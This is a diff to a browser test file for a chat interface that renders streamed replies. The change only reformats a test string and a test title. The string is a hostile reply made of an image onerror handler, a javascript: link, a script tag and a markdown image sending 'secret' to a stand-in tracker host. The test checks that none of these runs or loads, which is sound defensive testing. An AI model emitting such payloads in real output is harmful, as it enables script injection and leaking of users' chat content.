@@ -243,7 +243,8 @@ test.describe('each failure shows, with what to do', () => {
 
 test('a hostile reply executes nothing and loads nothing', async ({ page, app }) => {
   const hostile =
-    'tps=2000 delay=0 <img src=x onerror="window.__pwned=1"> [click me](javascript:window.__pwned=2) <script>window.__pwned=3</script> ![the chat so far](https://tracker.invalid/p.png?q=secret)';
+    'tps=2000 delay=0 <img src=x onerror="window.__pwned=1"> [click me](javascript:window.__pwned=2) ' +
+    '<script>window.__pwned=3</script> ![the chat so far](https://tracker.invalid/p.png?q=secret)';
   const fetched: string[] = [];
   page.on('request', (request) => fetched.push(request.url()));
   await app.ask('sim-openai::sim-echo', hostile);
@@ -292,7 +293,8 @@ test('one store update per frame at most, and finished messages do not re-render
 // Chromium follows by scroll anchoring once the reply outgrows the window; a browser
 // without anchoring (Safari) by script, which the second run makes this Chromium into.
 for (const anchoring of [true, false]) {
-  test(`the page follows a streaming reply to its end, and stays put once the reader scrolls up (${anchoring ? 'scroll anchoring' : 'scripted, no anchoring'})`, async ({
+  const how = anchoring ? 'scroll anchoring' : 'scripted, no anchoring';
+  test(`the page follows a streaming reply to its end, and stays put once the reader scrolls up (${how})`, async ({
     page,
     app,
   }) => {
